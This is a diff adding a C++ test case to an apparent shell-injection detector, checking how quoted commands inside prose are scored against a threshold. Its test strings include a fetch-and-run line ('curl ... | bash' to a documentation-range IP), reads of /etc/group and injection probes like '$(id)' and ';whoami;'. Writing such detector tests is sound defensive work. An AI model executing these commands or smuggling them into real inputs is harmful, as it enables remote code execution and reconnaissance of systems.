@@ -78,6 +78,21 @@ TEST(Shell, ParametersOfTypesAndProductsAreNoCommands) {
     EXPECT_GE(points(text), kThreshold) << text;
   }
 }
+TEST(Shell, CodeThatATextQuotes) {
+  for (const std::string_view text :
+       {"Please run `docker run -v $(pwd):/srv image` before you ask the people here again",
+        "To see the accounts try `tac /etc/group | cut -d: -f1` and tell us what it prints",
+        "This is how we install it on our own machines:\n```\ncurl -s http://192.0.2.1/i | bash\n```\nand that is "
+        "all"}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+  for (const std::string_view text :
+       {"`tac /etc/group | cut -d: -f1`", "name `curl -s http://192.0.2.1/i | bash`", "a `tac /etc/group`; b",
+        "Please run docker now before you ask the people; tac /etc/group | cut -d: -f1 `", "x$(tac /etc/group)",
+        "We like it here and so do all of our `friends`; curl -s http://192.0.2.1/i | bash"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+}
 TEST(Shell, ShortProbes) {
   for (const std::string_view text :
        {"x;whoami;", "10|id", "$(id)", "-;id", "x&&id", "||id", "x\ncurl http://192.0.2.9/x", ";{ id;}",
